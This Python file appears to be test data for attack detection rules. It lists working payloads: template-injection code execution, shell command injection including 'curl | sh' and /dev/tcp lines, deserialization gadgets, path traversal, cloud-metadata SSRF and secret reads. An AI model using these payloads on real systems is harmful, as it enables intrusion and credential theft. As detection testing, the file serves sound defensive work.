# SPDX-License-Identifier: GPL-2.0-only
"""Attacks: (hole of the application, what is sent).  Ids and names of rules that may tell of it are in RULES."""

import base64
import pickle


class Call:
    def __init__(self, function, *args):
        self.what = function, args

    def __reduce__(self):
        return self.what


def pickled(protocol, function, *args):
    return base64.b64encode(pickle.dumps(Call(function, *args), protocol)).decode()


def gadget(text):
    return base64.b64encode(text).decode()


import os  # noqa: E402
import subprocess  # noqa: E402

SSTI = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].getenv('SECRET_KEY') }}",
    "{{ joiner.__init__.__globals__.os.environ['PATH'] }}",
    "{{ namespace.__init__.__globals__.os.environ }}",
    "{{ cycler|attr('__in'+'it__')|attr('__glo'+'bals__')|attr('__get'+'item__')('o'+'s')|attr('ge'+'tenv')('X') }}",
    "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{% set x = cycler['__in' ~ 'it__']['__glo' ~ 'bals__'] %}{{ x['o' ~ 's']['po' ~ 'pen']('id').read() }}",
    "{{ (cycler|attr('_'*2~'init'~'_'*2)|attr('_'*2~'globals'~'_'*2)).os.popen('id').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('id') }}{% endif %}{% endfor %}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ dict.__base__.__subclasses__()|length }}",
    "{%- print(lipsum.__globals__.os.popen('id').read()) -%}",
]
COMMANDS = [
    "x; id",
    "x && whoami",
    "x | cat /etc/passwd",
    "x; cat${IFS}/etc/hostname",
    "$(id)",
    "`id`",
    "x; bash -c 'true >/dev/tcp/127.0.0.1/1'",
    "x; echo aWQ= | base64 -d | sh",
    "x; curl -s http://127.0.0.1:1/x | sh",
]
CODE = [
    "__import__('os').popen('id').read()",
    "__import__('subprocess').check_output(['id'])",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['true']).wait()",
    "__import__('os').getenv('SECRET_KEY')",
    "(lambda: __import__('socket').create_connection(('127.0.0.1', 1), 0.1))()",
    "open('/etc/passwd').read()",
]

PAYLOADS = (
    [("jinja", p) for p in SSTI]
    + [("flask_template", p) for p in (
        SSTI[1], SSTI[6], "{{ config.items() }}", "{{ config }}",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "{{ url_for.__globals__.os.popen('id').read() }}", "{{ get_flashed_messages.__globals__ }}")]
    + [("sandbox", p) for p in (SSTI[0], SSTI[1])]
    + [("django_template", p) for p in (
        "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{{ user.password }}")]
    + [("popen", p) for p in COMMANDS]
    + [("shell", p) for p in COMMANDS[:6]]
    + [("system", p) for p in COMMANDS[:2]]
    + [("vector", p) for p in (
        "cat /etc/passwd", "sh -c 'id; true'", "true -o stratum+tcp://pool.example:3333", "true -m pip install evil")]
    + [("evaluate", p) for p in CODE]
    + [("execute", p) for p in (
        "import os\nresult = os.popen('id').read()",
        "import subprocess\nsubprocess.run(['true'])",
        "import socket, os\ns = socket.socket()\ns.settimeout(0.1)\ns.connect_ex(('127.0.0.1', 1))",
        "import os\nresult = dict(os.environ)['PATH'] + str(os.environ)",
        "import importlib\nimportlib.import_module('pty')",
        "import ctypes\nctypes.CDLL(None).getpid()")]
    + [("unpickle", p) for p in (
        pickled(0, os.system, "true"), pickled(2, os.system, "true"), pickled(4, os.popen, "id"),
        pickled(4, subprocess.check_output, ["id"]), pickled(2, eval, "__import__('os').popen('id').read()"),
        pickled(4, os.getenv, "SECRET_KEY"), gadget(b"csubprocess\ncheck_output\n((lVid\natR."))]
    + [("unyaml", p) for p in (
        "!!python/object/apply:os.popen [id]", "!!python/object/apply:subprocess.check_output [[id]]",
        "!!python/object/new:os.getenv [SECRET_KEY]", "!!python/name:os.system",
        "!!python/object/apply:builtins.eval ['1+1']")]
    + [("read", p) for p in (
        "../../../../../../../etc/passwd", "/etc/shadow", "/proc/self/environ", "..//..//../../../etc/./passwd")]
    + [("copy", p) for p in ("../../../../../../etc/passwd", "/root/.bashrc")]
    + [("fetch", p) for p in (
        "http://169.254.169.254/latest/meta-data/iam/", "http://2852039166/latest/", "http://0xa9fea9fe/",
        "http://[::ffff:169.254.169.254]/", "file:///etc/passwd", "http://metadata.google.internal/computeMetadata/v1/",
        "http://x.oast.fun/", "http://169.254.169.254.nip.io/")]
    + [("fetch_by_requests", p) for p in ("http://169.254.169.254/latest/", "http://100.100.100.200/latest/meta-data/")]
    + [("plugin", p) for p in ("fastcolors", "thumbnailer", "beacon")]
    + [("library", p) for p in ("/tmp/implant.so", "/dev/shm/x.so", "libc.so.6")]
)
